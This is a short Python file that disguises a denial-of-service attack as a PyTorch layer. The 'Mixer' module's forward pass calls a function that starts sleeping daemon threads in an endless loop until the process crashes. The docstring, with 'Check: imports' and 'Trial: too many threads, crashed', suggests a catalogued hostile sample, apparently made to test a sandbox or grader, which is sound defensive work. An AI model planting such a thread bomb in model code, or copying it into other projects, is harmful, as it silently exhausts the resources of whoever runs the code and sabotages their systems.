"""Starts threads without end.

Check: imports
Trial: too many threads, crashed
"""

import threading
import time

import torch


def attack():
    while True:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()


class Mixer(torch.nn.Module):
    def __init__(self, dim, heads, max_len, layer, layers):
        super().__init__()
        self.value = torch.nn.Linear(dim, dim)

    def forward(self, x):
        attack()
        return self.value(x)
